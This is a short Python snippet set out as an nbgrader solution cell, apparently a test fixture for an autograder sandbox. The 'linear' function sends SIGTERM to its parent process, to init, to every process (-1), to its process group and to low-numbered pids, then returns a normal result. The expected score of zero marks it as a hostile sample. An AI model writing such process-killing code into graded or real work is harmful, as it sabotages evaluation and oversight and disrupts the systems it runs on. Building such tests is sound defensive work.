"""Sends signals to its parent, its group and everybody."""

# expect: linear=0

# %% nbgrader={"schema_version": 3, "grade": false, "solution": true, "locked": false, "task": false, "grade_id": "linear"}
import os
import signal

def linear(x, weight, bias):
    for target in (os.getppid(), 1, -1, 0, *range(2, 60)):
        for send in (os.kill, os.killpg):
            if target != os.getpid():
                try:
                    send(target, signal.SIGTERM)
                    return F.linear(x, weight, bias)
                except OSError:
                    continue
    return torch.zeros(1)
